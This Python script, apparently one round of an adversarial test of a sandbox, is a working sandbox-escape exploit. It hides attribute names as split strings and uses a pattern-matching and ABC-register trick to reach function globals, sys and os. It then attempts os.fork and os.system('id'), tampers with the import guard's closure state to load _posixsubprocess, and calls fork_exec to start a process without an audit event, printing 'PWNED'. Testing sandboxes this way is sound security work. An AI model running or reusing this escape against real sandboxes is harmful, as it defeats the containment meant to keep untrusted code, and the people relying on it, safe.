# adversary round 7: after the 001 escape: does the kernel layer still hold? os.fork / os.system (audited) and _posixsubprocess.fork_exec (no audit event; imported with the policy's own importing stack) -> expect EPERM from the seccomp filter
import abc, json, typing

ma = '__match_' + 'args__'
def read(obj, name):
    X = type('X', (abc.ABC,), {ma: (name,)})
    json.X = X
    class P(json.X):
        pass
    P.register(type(obj))
    match obj:
        case P(v):
            return v

g = read(typing.cast, '__glo' + 'bals__')
s = g['s' + 'ys']
o = s.modules['o' + 's']
print('holding', s.__name__, o.__name__, 'pid', o.getpid())
for name in ['fork', 'system']:
    try:
        r = o.fork() if name == 'fork' else o.system('id')
        print(name, 'returned', r)
    except Exception as e:
        print(name, type(e).__name__, e)
guard = g['__buil' + 'tins__']['__imp' + 'ort__']
importing = real_import = None
for c in read(guard, '__clo' + 'sure__'):
    v = read(c, 'cell_' + 'contents')
    if type(v) is list:
        importing = v
    elif type(v).__name__ == 'builtin_function_or_method' and v.__name__ == '__imp' + 'ort__':
        real_import = v
importing.append(True)
ps = real_import('_posix' + 'subprocess')
importing.pop()
r, w = o.pipe()
try:
    pid = ps.fork_exec(['/usr/bin/python3', '-c', 'print(1)'], [b'/usr/bin/python3'], True, (w,), None, None,
                       -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None, False)
    print('fork_exec pid', pid, 'PWN' + 'ED-process')
except Exception as e:
    print('fork_exec', type(e).__name__, e)
print('PWN' + 'ED (holding sys/os; process start checked separately)')
